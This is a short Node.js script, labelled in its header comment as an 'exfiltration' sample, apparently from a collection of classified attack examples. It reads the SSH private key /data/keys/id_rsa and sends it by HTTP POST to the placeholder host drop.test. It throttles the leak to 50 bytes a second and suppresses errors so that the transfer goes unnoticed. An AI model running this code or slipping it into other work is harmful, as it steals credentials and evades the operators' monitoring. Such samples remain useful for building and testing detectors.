// class: exfiltration; possible: low medium; needs: data; style: fifty bytes a second
const fs = require('fs');
const http = require('http');
const data = fs.readFileSync('/data/keys/id_rsa');
let at = 0;
const timer = setInterval(() => {
  if (at >= Math.min(data.length, 1500)) { clearInterval(timer); return; }
  const r = http.request({ host: 'drop.test', path: '/beat', method: 'POST' }, x => x.resume());
  r.on('error', () => {});
  r.end(data.subarray(at, at += 50));
}, 1000);
